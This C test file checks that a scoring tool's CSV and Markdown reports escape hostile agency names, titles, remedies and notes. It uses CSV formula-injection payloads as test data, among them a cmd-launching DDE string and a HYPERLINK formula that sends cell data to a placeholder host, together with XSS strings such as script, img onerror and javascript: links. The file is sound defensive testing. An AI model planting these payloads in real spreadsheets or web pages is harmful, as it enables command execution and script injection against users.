/* What reaches a spreadsheet or a Markdown page stays text: agency names,
 * titles, remedies and notes that look like formulas, HTML or Markdown are
 * neutralised in ranking.csv and criteria.csv (OWASP, "CSV Injection") and
 * escaped in gap.md (CommonMark, GFM tables). The CSVs are read back through
 * the strict RFC 4180 reader; real numbers stay numbers. Also: a buffer
 * that passes its cap says so rather than "out of memory". */
#include "testutil.h"

#include <stdlib.h>

#include "cchc/report.h"
#include "csv_read.h"
#include "report_priv.h"

/* Hostile text in every field a criteria set carries into the outputs. */
static const char set_xml[] =
	"<criteria-set xmlns=\"urn:cchc:criteria:1\" id=\"esc-2018\" year=\"2018\" max=\"10\""
	"              title=\"Bộ | thử &lt;b&gt;đậm&lt;/b&gt;\">"
	"  <bands><band label=\"=Tốt\" min=\"8\"/><band label=\"Khá\" min=\"0\"/></bands>"
	"  <group id=\"A\" title=\"Nhóm | *A*\" max=\"10\">"
	"    <criterion id=\"A.1\" title=\"=HYPERLINK(&quot;http://x.example/?&quot;&amp;A1,&quot;Bấm&quot;)\" max=\"6\">"
	"      <rule kind=\"yes-no\"/>"
	"      <remedy task=\"&lt;iframe src=javascript:alert(1)&gt;\" owner=\"-2+3+cmd|' /C calc'!A0\""
	"              support=\"@SUM(1+1)\" when=\"Tháng | 01\">[bấm](javascript:alert(1)) **đậm** `mã`"
	" ~~gạch~~ &amp;lt;b&gt;&#10;# tiêu đề&#10;- mục</remedy>"
	"    </criterion>"
	"    <criterion id=\"A.2\" title=\"&lt;script&gt;alert(1)&lt;/script&gt;\" max=\"4\">"
	"      <rule kind=\"yes-no\"/>"
	"    </criterion>"
	"  </group>"
	"</criteria-set>";

/* Names that a spreadsheet would run, one per leading character OWASP lists. */
static const char *const names[] = {
	"=1+2", "+cộng", "-trừ", "@tại", "&#9;tab", "&#13;cr", "Sở bình thường",
};
#define NAGENCIES (sizeof names / sizeof *names)

static struct {
	cchc_criteria *set;
	cchc_assessment *a[NAGENCIES];
	cchc_score *s[NAGENCIES];
	cchc_ranking *r;
} fx;

static void load(void)
{
	if (fx.r)
		return;
	cchc_diag *d = NULL;
	fx.set = test_criteria(set_xml, &d);
	if (!fx.set)
		fprintf(stderr, "\n%s", test_diag_text(d));
	cchc_diag_free(d);
	CU_ASSERT_PTR_NOT_NULL_FATAL(fx.set);
	for (size_t i = 0; i < NAGENCIES; i++) {
		char xml[1024];
		/* the last gets full points and claims none: a negative deviation */
		snprintf(xml, sizeof xml,
		         "<assessment xmlns=\"urn:cchc:assessment:1\" criteria-set=\"esc-2018\" "
		         "year=\"2018\"><agency id=\"a%zu\" name=\"%s\"/>"
		         "<item criterion=\"A.1\" met=\"%s\" self=\"%s\" note=\"&lt;img src=x "
		         "onerror=alert(1)&gt; | ghi chú\"/><item criterion=\"A.2\" met=\"%s\"/>"
		         "</assessment>",
		         i, names[i], i == NAGENCIES - 1 ? "true" : "false", i == 0 ? "6" : "0",
		         i % 2 || i == NAGENCIES - 1 ? "true" : "false");
		d = NULL;
		fx.a[i] = test_assessment(fx.set, xml, &d);
		if (!fx.a[i])
			fprintf(stderr, "\n%s", test_diag_text(d));
		cchc_diag_free(d);
		CU_ASSERT_PTR_NOT_NULL_FATAL(fx.a[i]);
		CU_ASSERT_EQUAL_FATAL(cchc_score_compute(&fx.s[i], fx.a[i]), 0);
	}
	d = cchc_diag_new();
	int rc = cchc_ranking_build(&fx.r, (const cchc_score *const *)fx.s, NAGENCIES, d);
	cchc_diag_free(d);
	CU_ASSERT_EQUAL_FATAL(rc, 0);
}

static void cleanup(void)
{
	cchc_ranking_free(fx.r);
	for (size_t i = 0; i < NAGENCIES; i++) {
		cchc_score_free(fx.s[i]);
		cchc_assessment_free(fx.a[i]);
	}
	cchc_criteria_free(fx.set);
}

/* The row of agency id in a parsed CSV whose column idcol holds ids. */
static const csv_row *row_of(const csv_doc *doc, size_t idcol, const char *id, size_t skip)
{
	for (size_t i = 1; i < doc->n; i++)
		if (doc->rows[i].n > idcol && strcmp(doc->rows[i].f[idcol], id) == 0 && skip-- == 0)
			return &doc->rows[i];
	return NULL;
}

/* The fixture rendered by fn into buf, and read back into doc. */
static void render_csv(int (*fn)(cchc_buf *, const cchc_ranking *), cchc_buf *buf, csv_doc *doc)
{
	char err[256];
	load();
	cchc_buf_init(buf, 0);
	CU_ASSERT_EQUAL_FATAL(fn(buf, fx.r), 0);
	if (csv_parse(buf->data, buf->len, doc, err, sizeof err) < 0)
		fprintf(stderr, "\n    CSV does not parse: %s\n", err);
	CU_ASSERT_PTR_NOT_NULL_FATAL(doc->rows);
}

static void test_ranking_csv(void)
{
	cchc_buf buf;
	csv_doc doc;
	render_csv(cchc_render_ranking_csv, &buf, &doc);
	/* every text cell that begins with = + - @ tab or CR is kept as text: a leading ' */
	static const char *const want[] = {
		"'=1+2", "'+cộng", "'-trừ", "'@tại", "'\ttab", "'\rcr", "Sở bình thường",
	};
	char id[8];
	for (size_t i = 0; i < NAGENCIES; i++) {
		snprintf(id, sizeof id, "a%zu", i);
		const csv_row *row = row_of(&doc, 3, id, 0);
		CU_ASSERT_PTR_NOT_NULL_FATAL(row);
		ASSERT_STR(row->f[4], want[i]);
		/* the band label "=Tốt" would be a formula too */
		ASSERT_STR(row->f[8], i == NAGENCIES - 1 ? "'=Tốt" : "Khá");
	}
	/* numbers stay numbers: a6 claimed 0 and got 10 (deviation −10), unquoted */
	const csv_row *a6 = row_of(&doc, 3, "a6", 0);
	ASSERT_STR(a6->f[15], "0.00");
	ASSERT_STR(a6->f[16], "-10.00");
	CU_ASSERT_PTR_NOT_NULL(strstr(buf.data, ",\"'=1+2\",0.00,10.00,0.00,Khá,"));
	CU_ASSERT_PTR_NOT_NULL(strstr(buf.data, ",Sở bình thường,10.00,10.00,100.00,\"'=Tốt\","));
	CU_ASSERT_PTR_NOT_NULL(strstr(buf.data, ",0.00,-10.00,"));
	/* a neutralised cell is always quoted, so that no separator splits it */
	CU_ASSERT_PTR_NOT_NULL(strstr(buf.data, ",\"'-trừ\","));
	csv_free(&doc);
	cchc_buf_dispose(&buf);
}

static void test_criteria_csv(void)
{
	cchc_buf buf;
	csv_doc doc;
	render_csv(cchc_render_criteria_csv, &buf, &doc);
	/* block,agency,name,rank,criterion,title,group,leaf,points,max,cause */
	const csv_row *row = row_of(&doc, 1, "a0", 1); /* a0's rows: group A, A.1, A.2 */
	CU_ASSERT_PTR_NOT_NULL_FATAL(row);
	ASSERT_EQ(row->n, 11);
	ASSERT_STR(row->f[2], "'=1+2");
	ASSERT_STR(row->f[4], "A.1");
	ASSERT_STR(row->f[5], "'=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")");
	ASSERT_STR(row->f[7], "1");
	ASSERT_STR(row->f[8], "0.00");
	ASSERT_STR(row->f[9], "6.00");
	CU_ASSERT_PTR_NOT_NULL(strstr(buf.data, ",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,"
	                                        "\"\"Bấm\"\")\",A,1,0.00,6.00,"));
	/* no cell of either file begins with a formula character */
	for (size_t i = 0; i < doc.n; i++)
		for (size_t k = 0; k < doc.rows[i].n; k++) {
			const char *f = doc.rows[i].f[k];
			int number = f[0] == '-' && f[1] >= '0' && f[1] <= '9';
			if (f[0] && strchr("=+@\t\r", f[0]))
				CU_FAIL("a criteria.csv cell begins with a formula character");
			if (f[0] == '-' && !number)
				CU_FAIL("a criteria.csv cell begins with '-' and is not a number");
		}
	csv_free(&doc);
	cchc_buf_dispose(&buf);
}

/* The line of text that contains needle, as a string (static buffer). */
static const char *line_with(const char *text, const char *needle)
{
	static char line[4096];
	const char *at = strstr(text, needle);
	if (!at)
		return "";
	const char *start = at, *end = strchr(at, '\n');
	while (start > text && start[-1] != '\n')
		start--;
	size_t len = end ? (size_t)(end - start) : strlen(start);
	len = len < sizeof line - 1 ? len : sizeof line - 1;
	memcpy(line, start, len);
	line[len] = '\0';
	return line;
}

/* Table cells as GFM splits them: '|' not escaped by a backslash. */
static size_t unescaped_pipes(const char *s)
{
	size_t n = 0;
	for (const char *p = s; *p; p++) {
		if (*p == '\\' && p[1])
			p++;
		else if (*p == '|')
			n++;
	}
	return n;
}

static void test_gap_markdown(void)
{
	load();
	cchc_gap *gap = NULL;
	cchc_diag *d = cchc_diag_new();
	CU_ASSERT_EQUAL_FATAL(cchc_gap_build(&gap, fx.r, "a0", 0, NULL, NULL, d), 0);
	cchc_diag_free(d);
	cchc_buf buf;
	cchc_buf_init(&buf, 0);
	CU_ASSERT_EQUAL_FATAL(cchc_render_gap_markdown(&buf, gap, CCHC_LANG_VI), 0);
	const char *md = buf.data;
	/* no raw HTML anywhere: every '<' is escaped */
	for (const char *p = strchr(md, '<'); p; p = strchr(p + 1, '<'))
		CU_ASSERT_FATAL(p > md && p[-1] == '\\');
	CU_ASSERT_PTR_NOT_NULL(strstr(md, "\\<script\\>alert(1)\\</script\\>"));
	CU_ASSERT_PTR_NOT_NULL(strstr(md, "\\<img src=x onerror=alert(1)\\> \\| ghi chú"));
	/* the name begins the position paragraph: a list or heading marker is escaped */
	CU_ASSERT_PTR_NULL(strstr(md, "\n=1+2 "));
	CU_ASSERT_PTR_NOT_NULL(strstr(md, "\n\\=1+2 "));
	/* the task row keeps its six cells; the remedy is one line of plain text */
	const char *row = line_with(md, "\\<iframe src=javascript:alert(1)\\>");
	ASSERT_EQ(unescaped_pipes(row), 7);
	CU_ASSERT_PTR_NOT_NULL(strstr(row, "| \\[bấm\\](javascript:alert(1)) \\*\\*đậm\\*\\* \\`mã\\` "
	                                   "\\~\\~gạch\\~\\~ \\&lt;b\\> \\# tiêu đề - mục | "
	                                   "\\-2+3+cmd\\|' /C calc'!A0 | @SUM(1+1) | Tháng \\| 01 |"));
	/* the criterion with a formula title, the group title with emphasis marks */
	CU_ASSERT_PTR_NOT_NULL(strstr(md, "\n- A.1 \\=HYPERLINK(\"http://x.example/?\"\\&A1,\"Bấm\"): "
	                                  "0,00/6 \xE2\x80\x94 "));
	CU_ASSERT_PTR_NOT_NULL(strstr(md, "Nhóm \\| \\*A\\*"));
	CU_ASSERT_PTR_NOT_NULL(strstr(md, "Bộ \\| thử \\<b\\>đậm\\</b\\>"));
	cchc_buf_dispose(&buf);
	cchc_gap_free(gap);
}

static const char *md(const char *s)
{
	static char text[512];
	cchc_buf buf;
	cchc_buf_init(&buf, 0);
	cchc_md_text(&buf, s, strlen(s));
	snprintf(text, sizeof text, "%s", buf.data ? buf.data : "");
	cchc_buf_dispose(&buf);
	return text;
}

static void test_md_text(void)
{
	/* marks that mean something anywhere */
	ASSERT_STR(md("a\\b `c` *d* _e_ [f](g) <h> # i ~j~ k|l"),
	           "a\\\\b \\`c\\` \\*d\\* \\_e\\_ \\[f\\](g) \\<h\\> \\# i \\~j\\~ k\\|l");
	/* "&" only where it would start a character reference */
	ASSERT_STR(md("Văn hóa & Thể thao &lt; &#60; AT&T"),
	           "Văn hóa & Thể thao \\&lt; \\&\\#60; AT\\&T");
	/* a line-start marker, after any white space (which becomes one space) */
	ASSERT_STR(md("- a"), "\\- a");
	ASSERT_STR(md("+ a"), "\\+ a");
	ASSERT_STR(md("==="), "\\===");
	ASSERT_STR(md("    \t- a"), " \\- a");
	ASSERT_STR(md("12. a"), "12\\. a");
	ASSERT_STR(md("3) a"), "3\\) a");
	ASSERT_STR(md("2018."), "2018\\.");
	/* ids and dates are not list markers */
	ASSERT_STR(md("1.1.1"), "1.1.1");
	ASSERT_STR(md("12/02/2018 - 13/02"), "12/02/2018 - 13/02");
	/* line breaks and controls become spaces: one paragraph, one table row */
	ASSERT_STR(md("a\r\nb\tc"), "a  b c");
	ASSERT_STR(md(""), "");
}

static void test_buf_cap(void)
{
	char why[160];
	cchc_buf buf;
	cchc_buf_init(&buf, 2048);
	CU_ASSERT_EQUAL(cchc_buf_repeat(&buf, 'x', 2048), 0);
	ASSERT_EQ(buf.failed, 0);
	CU_ASSERT_EQUAL(cchc_buf_puts(&buf, "y"), -1);
	ASSERT_EQ(buf.failed, CCHC_BUF_OVER_CAP);
	cchc_buf_failure(&buf, why, sizeof why);
	ASSERT_STR(why, "the output would pass 2 KiB, the most cchc holds for one output");
	/* the failure stays: later appends fail too */
	CU_ASSERT_EQUAL(cchc_buf_printf(&buf, "%d", 1), -1);
	ASSERT_EQ(buf.failed, CCHC_BUF_OVER_CAP);
	cchc_buf_dispose(&buf);

	cchc_buf_init(&buf, 0);
	buf.len = CCHC_BUF_DEFAULT_CAP; /* full to the default cap, without the memory */
	CU_ASSERT_EQUAL(cchc_buf_append(&buf, "z", 1), -1);
	buf.len = 0;
	cchc_buf_failure(&buf, why, sizeof why);
	ASSERT_STR(why, "the output would pass 256 MiB, the most cchc holds for one output");
	cchc_buf_dispose(&buf);

	cchc_buf_init(&buf, 0);
	buf.failed = CCHC_BUF_NO_MEMORY;
	cchc_buf_failure(&buf, why, sizeof why);
	ASSERT_STR(why, "out of memory");
	cchc_buf_dispose(&buf);
}

int main(void)
{
	static const test_case tests[] = {
		{"ranking.csv: formula-like names kept as text, numbers as numbers", test_ranking_csv},
		{"criteria.csv: formula-like titles kept as text", test_criteria_csv},
		{"gap.md: names, titles, remedies and notes escaped", test_gap_markdown},
		{"Markdown text escaping, mark by mark", test_md_text},
		{"a buffer past its cap says so", test_buf_cap},
		{NULL, NULL},
	};
	int rc = test_run_suite("escape", tests);
	cleanup();
	return rc;
}
